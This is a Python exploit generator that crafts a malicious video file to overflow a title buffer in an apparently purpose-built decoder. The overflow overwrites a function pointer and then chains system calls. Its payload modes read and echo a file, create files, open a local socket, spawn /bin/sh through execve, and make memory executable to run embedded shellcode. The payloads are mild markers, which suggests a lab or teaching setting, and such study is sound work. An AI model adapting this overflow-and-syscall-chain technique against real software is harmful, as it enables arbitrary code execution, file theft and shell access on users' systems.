#!/usr/bin/env python3
"""make_attack.py DECODER KIND FILE [ARGUMENT…]: makes a film that takes over the decoder.

What an attacker knows is the program: where its variables and its entry to syscall() are. The title of the film is longer than the
decoder's room for it and so overwrites what lies behind it: the function that writes images, its four arguments, and where
packets are read to. That is made to point at the variables themselves, so that each following packet brings the next function
and its arguments, and a packet of no bytes, which cannot be decoded, has it called. With syscall() as the function the film
is a program of system calls.

kinds:  read PATH          sends the file's contents out with the images
        write PATH         makes a file
        connect PORT       connects to 127.0.0.1 and says so
        exec PATH          starts a shell, which makes a file
        code               makes memory executable and runs code of its own in it
"""
import re
import socket
import struct
import subprocess
import sys

OPEN, READ, WRITE, SOCKET, CONNECT, EXECVE, MPROTECT = 2, 0, 1, 41, 42, 59, 10
FIRST_FREE = 3  # The decoder holds 0, 1 and 2.
LOOT = b"owned"


class Attack:
    def __init__(self, decoder):
        symbols = subprocess.run(["nm", decoder], capture_output=True, text=True, check=True).stdout
        code = subprocess.run(["objdump", "-d", decoder], capture_output=True, text=True, check=True).stdout
        self.film = int(re.search(r"^([0-9a-f]+) b film$", symbols, re.M)[1], 16)
        self.memory = int(re.search(r"^([0-9a-f]+) b pixel_buffer$", symbols, re.M)[1], 16)
        self.page = -(-self.memory // 4096) * 4096
        self.syscall = int(re.search(r"^([0-9a-f]+) <syscall@plt>:", code, re.M)[1], 16)
        # The first state does no harm: it is what overflows.
        self.bytes = struct.pack("<4sIII", b"FILM", 16, 16, len(self.state())) + self.state()

    def state(self, function=0, arguments=(0, 0, 0, 0)):
        """The decoder's variables from the title on, as they are declared there."""
        first, second, third, fourth = arguments
        return bytes(64) + struct.pack("<QiiQQQQ", function, first, 0, second, third, fourth, self.film)

    def call(self, function, *arguments):
        state = self.state(function, (*arguments, 0, 0, 0, 0)[:4])
        self.bytes += struct.pack("<I", len(state)) + state + struct.pack("<I", 0)

    def system_call(self, *arguments):
        self.call(self.syscall, *arguments)

    def load(self, data, address):
        """The next bytes of the film come to this address."""
        self.system_call(READ, 0, address, len(data))
        self.bytes += data


def read(attack, path):
    attack.load(path.encode() + b"\0", attack.memory)
    attack.system_call(OPEN, attack.memory, 0, 0)
    attack.system_call(READ, FIRST_FREE, attack.memory, 64)
    attack.system_call(WRITE, 1, attack.memory, 64)


def write(attack, path):
    attack.load(path.encode() + b"\0" + LOOT, attack.memory)
    attack.system_call(OPEN, attack.memory, 0o101, 0o644)  # O_CREAT | O_WRONLY
    attack.system_call(WRITE, FIRST_FREE, attack.memory + len(path) + 1, len(LOOT))


def connect(attack, port):
    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton("127.0.0.1") + bytes(8)
    attack.load(address + LOOT, attack.memory)
    attack.system_call(SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    attack.system_call(CONNECT, FIRST_FREE, attack.memory, len(address))
    attack.system_call(WRITE, FIRST_FREE, attack.memory + len(address), len(LOOT))


def execute(attack, path):
    words = [b"/bin/sh\0", b"-c\0", f"printf owned >{path}\0".encode()]
    pointers, text = [], b""
    for word in words:
        pointers.append(attack.memory + 32 + len(text))
        text += word
    attack.load(struct.pack("<QQQQ", *pointers, 0) + text, attack.memory)
    attack.system_call(EXECVE, pointers[0], attack.memory, 0)


def code(attack):
    # write(1, "owned", 5), in the attacker's own instructions; the text lies behind them.
    instructions = bytes.fromhex("b801000000" "bf01000000" "488d3508000000" "ba05000000" "0f05" "c3") + LOOT
    attack.load(instructions, attack.page)
    attack.system_call(MPROTECT, attack.page, 4096, 7)
    attack.call(attack.page)


KINDS = {"read": read, "write": write, "connect": connect, "exec": execute, "code": code}


def make(decoder, kind, *arguments):
    attack = Attack(decoder)
    KINDS[kind](attack, *arguments)
    return attack.bytes


if __name__ == "__main__":
    if len(sys.argv) < 4 or sys.argv[2] not in KINDS:
        sys.exit(__doc__)
    with open(sys.argv[3], "wb") as file:
        file.write(make(sys.argv[1], sys.argv[2], *sys.argv[4:]))
